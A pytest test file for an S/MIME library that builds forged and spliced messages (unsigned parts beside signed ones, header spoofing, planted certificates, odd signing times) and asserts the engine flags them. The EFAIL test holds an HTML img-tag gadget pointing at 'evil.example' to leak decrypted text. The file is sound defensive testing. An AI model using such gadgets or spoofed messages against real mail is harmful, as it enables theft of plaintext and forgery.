"""Verdicts no sender can forge (issue 10): each attack, made with the openssl binary or the engine.

Every attack runs twice: through the API (``SMIME.verify_decrypt``) and
through the command line (``smimecore process --status-json``), and must
give the same records.
"""

from __future__ import annotations

import base64
import email.utils
import json
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from subprocess import CompletedProcess
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import serialization
from cryptography.x509.oid import NameOID

from smimecore import SMIME, Config, RecipientError
from smimecore.algorithms.digests import digest_by_name
from smimecore.cms.signed import SigningIdentity, build_signed_data
from smimecore.demo.pki import DemoIdentity, DemoPKI
from smimecore.keyring import MemoryKeyring
from smimecore.keyring.store import MemoryCertificateStore
from smimecore.mime.protected import protected_entity_pieces
from smimecore.mime.signed import build_detached
from smimecore.pki.certificate import identity_of
from tests.conftest import PASSPHRASE, SAMPLE_DATE
from tests.trustpki import self_signed

OpenSSL = Callable[..., CompletedProcess[bytes]]
ALICE = "rsa2048@test.example"
VICTIM = "p256@test.example"
NOW = email.utils.format_datetime(datetime.now(UTC)).encode()


@dataclass(frozen=True)
class Outcome:
    """What one way of running gave: ok (or exit status 0), and the records as JSON would hold them."""

    ok: bool
    records: list[dict[str, Any]]
    output: bytes


Runner = Callable[[bytes], Outcome]


def _config(pki_dir: Path, **options: Any) -> Config:
    return Config(
        keyring=pki_dir / "keyring",
        passphrase=PASSPHRASE,
        ca_path=pki_dir / "ca.pem",
        **options,
    )


_CLI_FLAGS = {
    "accept_partial_protection": "--accept-partial-protection",
    "require_authenticated_encryption": "--require-authenticated-encryption",
    "require_sender_match": "--require-sender-match",
}


@pytest.fixture(params=["api", "cli"])
def run(request: pytest.FixtureRequest, pki_dir: Path, tmp_path: Path) -> Callable[..., Runner]:
    """``run(**options)(message)``: verify_decrypt through the API or through ``smimecore process``."""

    def through_api(**options: Any) -> Runner:
        engine = SMIME(_config(pki_dir, **options))

        def go(message: bytes) -> Outcome:
            result = engine.verify_decrypt(message)
            return Outcome(result.ok, [r.to_dict() for r in result.statuses], result.data)

        return go

    def through_cli(**options: Any) -> Runner:
        flags = [_CLI_FLAGS[name] for name, value in options.items() if value]

        def go(message: bytes) -> Outcome:
            (tmp_path / "in.eml").write_bytes(message)
            (tmp_path / "out.eml").unlink(missing_ok=True)
            status = tmp_path / "status.json"
            done = subprocess.run(
                [
                    sys.executable, "-m", "smimecore",
                    "--keyring", str(pki_dir / "keyring"), "--passphrase", PASSPHRASE,
                    "--ca-path", str(pki_dir / "ca.pem"), "--status-json", str(status),
                    "process", *flags, "--in", str(tmp_path / "in.eml"),
                    "--out", str(tmp_path / "out.eml"),
                ],
                capture_output=True, check=False, timeout=120,
            )  # fmt: skip
            assert done.returncode in (0, 1), done.stderr
            out = tmp_path / "out.eml"
            records = json.loads(status.read_text())
            return Outcome(done.returncode == 0, records, out.read_bytes() if out.exists() else b"")

        return go

    return through_api if request.param == "api" else through_cli


def _openssl_signed(openssl: OpenSSL, pki_dir: Path, entity: bytes, signer: str = ALICE) -> bytes:
    (pki_dir / "entity.txt").write_bytes(entity)
    made = openssl(
        "smime", "-sign", "-in", pki_dir / "entity.txt",
        "-signer", pki_dir / f"{signer}.crt", "-inkey", pki_dir / f"{signer}.key",
    )  # fmt: skip
    assert made.returncode == 0, made.stderr
    return made.stdout


def _openssl_encrypted(openssl: OpenSSL, pki_dir: Path, entity: bytes, to: str) -> bytes:
    (pki_dir / "entity.txt").write_bytes(entity)
    made = openssl(
        "cms", "-encrypt", "-aes256", "-in", pki_dir / "entity.txt", pki_dir / f"{to}.crt"
    )
    assert made.returncode == 0, made.stderr
    return made.stdout


def _mail(headers: bytes, body_entity: bytes) -> bytes:
    return headers + b"Date: " + NOW + b"\r\n" + body_entity


def _mixed(*parts: bytes) -> bytes:
    boundary = b"ATTACKER-BOUNDARY"
    body = b"".join(b"--" + boundary + b"\r\n" + part + b"\r\n" for part in parts)
    return (
        b"MIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="' + boundary + b'"\r\n\r\n'
        + body + b"--" + boundary + b"--\r\n"
    )  # fmt: skip


FROM_ALICE = b"From: Alice <rsa2048@test.example>\r\nTo: Bob <p256@test.example>\r\nSubject: s\r\n"
UNSIGNED_TEXT = b"Content-Type: text/plain\r\n\r\nPlease wire the money to the attacker.\r\n"
SIGNED_TEXT = b"Content-Type: text/plain\r\n\r\nSigned, genuinely, by Alice.\r\n"


# -- 1. partial signing and partial encryption ---------------------------------------------


def test_a_whole_signed_message_is_whole(
    run: Callable[..., Runner], openssl: OpenSSL, pki_dir: Path
) -> None:
    """The usual case: the signature covers the whole message shown."""
    message = _mail(FROM_ALICE, _openssl_signed(openssl, pki_dir, SIGNED_TEXT))
    outcome = run()(message)
    (record,) = outcome.records
    assert (record["Status"], record["Coverage"], record["Part"]) == ("DONE", "whole", "")
    assert outcome.ok


@pytest.mark.parametrize("multipart", [b"mixed", b"alternative"])
def test_an_unsigned_part_beside_a_signed_part_is_not_ok(
    run: Callable[..., Runner], openssl: OpenSSL, pki_dir: Path, multipart: bytes
) -> None:
    """Johnny, You Are Fired: unsigned text shown first, a valid signature on part 2 only."""
    body = _mixed(UNSIGNED_TEXT, _openssl_signed(openssl, pki_dir, SIGNED_TEXT))
    body = body.replace(b"multipart/mixed", b"multipart/" + multipart)
    outcome = run()(_mail(FROM_ALICE, body))
    (record,) = outcome.records
    assert record["Status"] == "DONE" and record["Trust"] == "FULL"
    assert (record["Coverage"], record["Part"]) == ("part", "2")
    assert record["Message"].endswith(", covering part 2 only")
    assert not outcome.ok
    assert run(accept_partial_protection=True)(_mail(FROM_ALICE, body)).ok


def test_an_encrypted_part_spliced_between_attacker_parts_is_not_ok(
    run: Callable[..., Runner], openssl: OpenSSL, pki_dir: Path
) -> None:
    """EFAIL's precondition: the ciphertext of a real message inside parts the attacker wrote."""
    encrypted = _openssl_encrypted(openssl, pki_dir, SIGNED_TEXT, VICTIM)
    body = _mixed(
        b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/',
        encrypted,
        b'Content-Type: text/html\r\n\r\n">',
    )
    outcome = run()(_mail(FROM_ALICE, body))
    (record,) = outcome.records
    assert record["Operation"] == "Decrypt" and record["Status"] == "DONE"
    assert (record["Coverage"], record["Part"], record["Authenticated"]) == ("part", "2", False)
    assert not outcome.ok


# -- 2. authenticated encryption ---------------------------------------------------------------


def test_cbc_content_is_reported_unauthenticated_and_can_be_refused(
    run: Callable[..., Runner], openssl: OpenSSL, pki_dir: Path
) -> None:
    """CBC is malleable (EFAIL's gadgets): reported, and refused on request without showing it."""
    message = _mail(FROM_ALICE, _openssl_encrypted(openssl, pki_dir, SIGNED_TEXT, VICTIM))
    (record,) = run()(message).records
    assert record["Authenticated"] is False and record["Status"] == "DONE"
    strict = run(require_authenticated_encryption=True)(message)
    (record,) = strict.records
    assert (record["Status"], record["Message"]) == (
        "BAD",
        "The content was not integrity-protected",
    )
    assert not strict.ok and b"genuinely" not in strict.output


def test_gcm_content_is_authenticated(pki_dir: Path) -> None:
    engine = SMIME(_config(pki_dir, require_authenticated_encryption=True))
    sent = engine.encrypt(_mail(FROM_ALICE, SIGNED_TEXT), recipients=[VICTIM], cipher="aes-256-gcm")
    result = engine.verify_decrypt(sent.data)
    assert result.ok and result.statuses[0]["Authenticated"] is True


# -- 3. the certificate store ------------------------------------------------------------------


def _forged_name(address: str) -> x509.Name:
    return x509.Name(
        [
            x509.NameAttribute(NameOID.COMMON_NAME, "Carol (forged)"),
            x509.NameAttribute(NameOID.EMAIL_ADDRESS, address),
        ]
    )


def _certs_only_mail(openssl: OpenSSL, tmp_path: Path, certificate: x509.Certificate) -> bytes:
    (tmp_path / "forged.pem").write_bytes(certificate.public_bytes(serialization.Encoding.PEM))
    made = openssl("crl2pkcs7", "-nocrl", "-certfile", tmp_path / "forged.pem", "-outform", "DER")
    assert made.returncode == 0, made.stderr
    part = (
        b"Content-Type: application/pkcs7-mime; smime-type=certs-only; name=smime.p7c\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(made.stdout)
    )
    return _mail(
        b"From: anyone@evil.example\r\nSubject: my new key\r\n", _mixed(UNSIGNED_TEXT, part)
    )


def test_a_certificates_only_part_cannot_plant_a_key(
    run: Callable[..., Runner], openssl: OpenSSL, pki_dir: Path, tmp_path: Path
) -> None:
    """A self-signed certificate for carol from anyone never becomes carol's encryption key."""
    forged, _ = self_signed(_forged_name("carol@example.com"), "carol@example.com")
    store = MemoryCertificateStore()
    engine = SMIME(_config(pki_dir, accept_untrusted_cas=True), store=store)
    result = engine.verify_decrypt(_certs_only_mail(openssl, tmp_path, forged))
    assert result.statuses[0]["Operation"] == "Certificates"
    assert store.get("carol@example.com") == ()
    with pytest.raises(RecipientError) as raised:
        engine.encrypt(_mail(FROM_ALICE, SIGNED_TEXT), recipients=["carol@example.com"])
    assert raised.value.statuses[0]["Reason"] == "Key not found"
    (check,) = engine.check_recipients(["carol@example.com"])
    assert check["Reason"] == "Key not found"
    assert engine.keys_for_encryption("carol@example.com") == []
    # The CLI agrees: the records say the same.
    assert (
        run()(_certs_only_mail(openssl, tmp_path, forged)).records[0]["Operation"] == "Certificates"
    )


def test_a_trusted_certificate_wins_over_an_untrusted_one(pki: DemoPKI, pki_dir: Path) -> None:
    """An untrusted signer's certificate is kept apart: used only under accept_untrusted_cas,
    and never chosen over a trusted certificate for the same address."""
    # The forged one expires much later than the genuine one, so only trust can rank them.
    forged, forged_key = self_signed(
        _forged_name("carol@example.com"), "carol@example.com", days=3000
    )
    mallory = MemoryKeyring()
    mallory.add_identity(forged_key, forged)
    carol = pki.issue("carol@example.com", "p256", common_name="Carol")
    genuine = MemoryKeyring()
    genuine.add_identity(carol.key, carol.certificate)
    message = _mail(b"From: carol@example.com\r\nSubject: s\r\n", SIGNED_TEXT)
    store = MemoryCertificateStore()
    lenient = SMIME(_config(pki_dir, accept_untrusted_cas=True), store=store)
    strict = SMIME(_config(pki_dir), store=store)

    assert lenient.verify_decrypt(
        SMIME(keyring=mallory).sign(message, signer="carol@example.com").data
    ).ok
    with pytest.raises(RecipientError):
        strict.encrypt(message, recipients=["carol@example.com"])
    assert lenient.context.choose_recipient("carol@example.com").certificate == forged

    assert strict.verify_decrypt(
        SMIME(keyring=genuine).sign(message, signer="carol@example.com").data
    ).ok
    for engine in (strict, lenient):
        # The forged one expires later, yet the trusted one is chosen, by every operation.
        assert engine.context.choose_recipient("carol@example.com").certificate == carol.certificate
        (first, *_) = engine.keys_for_encryption("carol@example.com")
        assert first["Fingerprint"] == identity_of(carol.certificate).fingerprint


def test_the_store_budget_per_message(pki: DemoPKI, pki_dir: Path) -> None:
    """At most max_stored_certificates_per_message certificates enter the store per message."""
    many = [pki.issue(f"user{n}@example.com", "p256") for n in range(3)]
    store = MemoryCertificateStore()
    engine = SMIME(_config(pki_dir, max_stored_certificates_per_message=2), store=store)
    engine.context.remember_certificates(
        [identity.certificate for identity in many], engine.context.store_budget()
    )
    stored = [identity.address for identity in many if store.get(identity.address)]
    assert stored == ["user0@example.com", "user1@example.com"]


# -- 5. sender binding -------------------------------------------------------------------------


def _signed_as(openssl: OpenSSL, pki_dir: Path, outer: bytes, inner_headers: bytes = b"") -> bytes:
    return _mail(outer, _openssl_signed(openssl, pki_dir, inner_headers + SIGNED_TEXT))


@pytest.mark.parametrize(
    ("outer", "inner", "unmatched"),
    [
        (
            b"From: Bob <p256@test.example>\r\n",
            b"From: Alice <rsa2048@test.example>\r\n",
            "p256@test.example",
        ),
        (
            b"From: Bob <p256@test.example>\r\nSender: rsa2048@test.example\r\n",
            b"",
            "p256@test.example",
        ),
        (b"From: rsa2048@test.example, Bob <p256@test.example>\r\n", b"", "p256@test.example"),
        (b"From: rsa2048@test.example\r\nFrom: p256@test.example\r\n", b"", "p256@test.example"),
        (b"From: rsa2048@test.example\r\nFrom : p256@test.example\r\n", b"", "p256@test.example"),
    ],
    ids=[
        "signed-part-from",
        "added-sender",
        "two-addresses",
        "two-from-fields",
        "space-before-colon",
    ],
)
def test_the_signer_must_be_every_top_level_from_address(
    run: Callable[..., Runner],
    openssl: OpenSSL,
    pki_dir: Path,
    outer: bytes,
    inner: bytes,
    unmatched: str,
) -> None:
    """Only the outermost From: addresses count, each of them; Sender: never stands in."""
    message = _signed_as(openssl, pki_dir, outer, inner)
    (record,) = run()(message).records
    assert record["Status"] == "DONE" and record["SignerMatchesSender"] is False
    (strict,) = run(require_sender_match=True)(message).records
    assert strict["Status"] == "BAD"
    assert strict["Message"] == (
        f'The signer "Test rsa2048" <rsa2048@test.example> is not the sender ({unmatched})'
    )


def test_a_matching_sender_is_ok_under_require_sender_match(
    run: Callable[..., Runner], openssl: OpenSSL, pki_dir: Path
) -> None:
    message = _signed_as(openssl, pki_dir, b"From: Alice <RSA2048@test.example>\r\n")
    outcome = run(require_sender_match=True)(message)
    assert outcome.ok and outcome.records[0]["SignerMatchesSender"] is True


# -- 6. signing time ---------------------------------------------------------------------------


def _signed_at(identity: DemoIdentity, moment: datetime, date: bytes | None) -> bytes:
    headers = b"From: Test <rsa2048@test.example>\r\nSubject: s\r\n"
    if date is not None:
        headers += b"Date: " + date + b"\r\n"
    outer, entity = protected_entity_pieces(headers + SIGNED_TEXT)
    signed = build_signed_data(
        entity,
        SigningIdentity(identity.key, identity.certificate),  # type: ignore[arg-type]
        digest=digest_by_name("sha256"),
        detached=True,
        signing_time=moment,
    )
    return build_detached(outer, entity, signed, "sha-256")


@pytest.fixture
def alice(identities: dict[str, DemoIdentity]) -> DemoIdentity:
    return identities["rsa2048"]


def test_a_signing_time_in_the_future_is_bad(
    run: Callable[..., Runner], alice: DemoIdentity
) -> None:
    (record,) = run()(_signed_at(alice, datetime(2099, 1, 1, tzinfo=UTC), None)).records
    assert (record["Status"], record["Message"]) == ("BAD", "The signing time is in the future")
    assert record["SigningTime"] == "2099-01-01T00:00:00Z"


def test_a_back_dated_signature_does_not_match_the_date_header(
    run: Callable[..., Runner], alice: DemoIdentity
) -> None:
    (record,) = run()(_signed_at(alice, datetime(1971, 1, 1, tzinfo=UTC), SAMPLE_DATE)).records
    assert record["Status"] == "BAD"
    assert record["Message"] == "The signing time does not match the Date header"


def test_an_unreadable_date_header_is_a_mismatch(
    run: Callable[..., Runner], alice: DemoIdentity
) -> None:
    (record,) = run()(_signed_at(alice, datetime.now(UTC), b"the day after tomorrow")).records
    assert record["Message"] == "The signing time does not match the Date header"


def test_without_a_date_header_the_signing_time_is_only_reported(
    run: Callable[..., Runner], alice: DemoIdentity
) -> None:
    outcome = run()(_signed_at(alice, datetime(1971, 1, 1, tzinfo=UTC), None))
    assert outcome.ok and outcome.records[0]["SigningTime"] == "1971-01-01T00:00:00Z"


def test_the_drift_check_can_be_turned_off(pki_dir: Path, alice: DemoIdentity) -> None:
    engine = SMIME(_config(pki_dir, max_signing_time_drift=None))
    message = _signed_at(alice, datetime.now(UTC) - timedelta(days=3), SAMPLE_DATE)
    assert engine.verify_decrypt(message).ok
    close = _signed_at(alice, datetime.now(UTC) - timedelta(minutes=20), SAMPLE_DATE)
    assert SMIME(_config(pki_dir)).verify_decrypt(close).ok


# -- 7. content that is not mail ---------------------------------------------------------------


def test_signed_data_that_is_not_mail_is_bad(
    run: Callable[..., Runner], openssl: OpenSSL, pki_dir: Path
) -> None:
    """An opaque signed-data whose eContentType is id-ct-TSTInfo is not shown as a signed mail."""
    (pki_dir / "token.txt").write_bytes(SIGNED_TEXT)
    made = openssl(
        "cms", "-sign", "-nodetach", "-econtent_type", "1.2.840.113549.1.9.16.1.4",
        "-in", pki_dir / "token.txt",
        "-signer", pki_dir / f"{ALICE}.crt", "-inkey", pki_dir / f"{ALICE}.key",
    )  # fmt: skip
    assert made.returncode == 0, made.stderr
    outcome = run()(_mail(FROM_ALICE, made.stdout))
    (record,) = outcome.records
    assert (record["Status"], record["Message"]) == (
        "BAD",
        "The signed content is not a mail message",
    )
    assert not outcome.ok


def test_the_status_header_keeps_the_partial_protection_setting(
    openssl: OpenSSL, pki_dir: Path
) -> None:
    """Writing the status header does not turn an accepted partial signature into a refusal."""
    body = _mixed(UNSIGNED_TEXT, _openssl_signed(openssl, pki_dir, SIGNED_TEXT))
    engine = SMIME(
        _config(pki_dir, accept_partial_protection=True, status_header="X-RT-SMIME-Status")
    )
    result = engine.verify_decrypt(_mail(FROM_ALICE, body))
    assert result.ok and result.partial_parts == ("2",)
    assert b"X-RT-SMIME-Status: " in result.data


@pytest.mark.parametrize(
    "date",
    [
        b"Mon, 1 Jan 2020 00:00:00 +99999999999999999999",
        b"Mon, 1 Jan 99999999999999999999 00:00:00 +0000",
    ],
)
def test_a_date_header_too_large_for_a_date_is_a_mismatch(
    run: Callable[..., Runner], alice: DemoIdentity, date: bytes
) -> None:
    """Numbers no datetime holds (OverflowError in the email package) are an unreadable Date."""
    (record,) = run()(_signed_at(alice, datetime.now(UTC), date)).records
    assert record["Message"] == "The signing time does not match the Date header"


def test_verify_and_decrypt_of_a_message_cover_all_of_it(pki_dir: Path) -> None:
    """SMIME.verify and SMIME.decrypt are given the protected message itself: Coverage whole."""
    engine = SMIME(_config(pki_dir))
    signed = engine.sign(_mail(FROM_ALICE, SIGNED_TEXT), signer=ALICE).data
    (record,) = engine.verify(signed).statuses
    assert (record["Coverage"], record["Part"]) == ("whole", "")
    encrypted = engine.encrypt(_mail(FROM_ALICE, SIGNED_TEXT), recipients=[VICTIM]).data
    (record,) = engine.decrypt(encrypted).statuses
    assert (record["Coverage"], record["Part"]) == ("whole", "")
